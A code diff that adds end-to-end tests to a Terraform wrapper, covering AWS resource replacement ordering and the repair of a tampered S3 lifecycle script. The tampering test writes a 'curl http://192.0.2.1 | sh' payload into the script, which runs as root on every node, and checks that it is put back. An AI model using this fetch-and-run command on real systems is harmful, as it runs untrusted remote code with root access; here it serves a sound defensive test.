@@ -16,6 +16,8 @@ import pytest
 from hp_tf.state import document
 from hp_tf.state.lock_set import LockSet
 from hp_tf.state.locks import LockInfo
+from hp_tf.terraform.plan import Action
+from tests.end_to_end.ordered import WholeRoot
 from tests.end_to_end.plain import PlainRoot
 from tests.end_to_end.project import LAYERS, Project, changes, differing
 from tests.waiting import wait_for
@@ -162,6 +164,59 @@ def test_each_state_opens_in_a_plain_root_of_its_layer(local: Project, plain: di
     wrong = {layer: done.stdout + done.stderr for layer, done in ended.items() if done.returncode != 0}
     assert wrong == {}
     assert local.states() == before
+
+
+NAT = 'module.network.aws_nat_gateway.this["usw2-az2"]'
+ROUTES = [f'module.network.aws_route.nat["{zone}"]' for zone in ZONES]
+SUBNET = 'module.eks.aws_subnet.control_plane["usw2-az1"]'
+GROUP, SCRIPT = "module.security.aws_security_group.this[0]", 'module.storage.aws_s3_object.lifecycle["on_create.sh"]'
+LUSTRE, ROLE = "module.fsx.aws_fsx_lustre_file_system.this", "module.iam.aws_iam_role.execution[0]"
+MADE_FIRST = Action.REPLACE_CREATE_FIRST.value
+
+
+def test_what_others_stand_upon_goes_after_they_have_moved(local: Project, tmp_path: Path) -> None:
+    """Every input by which something is made anew or goes, but those that make the VPC anew."""
+    given = {"create_security_group": False, "security_group_id": "sg-0123456789abcdef0", "present_rules": []}
+    ordered = WholeRoot(local, tmp_path / "whole").ordered(
+        {
+            "network": {
+                "primary_availability_zone_id": "usw2-az1",
+                "private_subnet_cidrs": {"usw2-az1": "10.9.0.0/16"},
+                "public_subnet_cidrs": {"usw2-az1": "10.192.99.0/24"},
+                "role_path": "/ml/",
+            },
+            "security": given,
+            "eks": {"subnet_cidrs": {"usw2-az1": "10.192.200.0/28"}},
+            "storage": {"lifecycle_prefix": "v2"},
+            "iam": {"role_path": "/ml/"},
+            "fsx": {"file_system_type_version": "2.12"},
+        }
+    )
+    assert ordered.goes_after(NAT, ROUTES) == []
+    assert ordered.goes_after(SUBNET, [EKS]) == []
+    assert ordered.goes_after(GROUP, [EKS, CLUSTER, LUSTRE]) == []
+    assert ordered.goes_after(SCRIPT, [CLUSTER]) == []
+    assert ordered.goes_after('module.network.aws_subnet.private["usw2-az1"]', [CLUSTER]) == []
+    # The cluster goes on with the same groups elsewhere; two of its name cannot be.
+    assert ordered.action(CLUSTER) == Action.REPLACE_DELETE_FIRST.value
+    assert ordered.action(EKS) == "update"
+    for address in (SUBNET, SCRIPT, LUSTRE, ROLE, 'module.network.aws_subnet.public["usw2-az1"]'):
+        assert ordered.action(address) == MADE_FIRST, address
+    # IAM refuses a second role of the name: nothing of what the old one may do is touched before that.
+    assert ordered.action("module.iam.aws_iam_role_policy_attachment.managed[0]") == "no-op"
+    assert ordered.action("module.iam.aws_iam_role_policy.execution[0]") == "update"
+
+
+def test_a_script_that_somebody_wrote_over_is_put_back(local: Project) -> None:
+    """It runs as root on every node."""
+    s3 = local.session.client("s3")
+    (bucket,) = (item["Name"] for item in s3.list_buckets()["Buckets"] if item["Name"].startswith("sagemaker-"))
+    before = s3.get_object(Bucket=bucket, Key="on_create.sh")["Body"].read()
+    s3.put_object(Bucket=bucket, Key="on_create.sh", Body=b"#!/bin/sh\ncurl http://192.0.2.1 | sh\n")
+    planned = local.plan("--layer", "storage")
+    assert [(address, actions) for address, actions, _ in changes(planned)] == [(SCRIPT, ("update",))]
+    local.apply("--layer", "storage")
+    assert s3.get_object(Bucket=bucket, Key="on_create.sh")["Body"].read() == before
 
 
 def test_a_plain_root_is_shut_out_by_the_locks_of_hptf(local: Project, plain: dict[str, PlainRoot]) -> None:
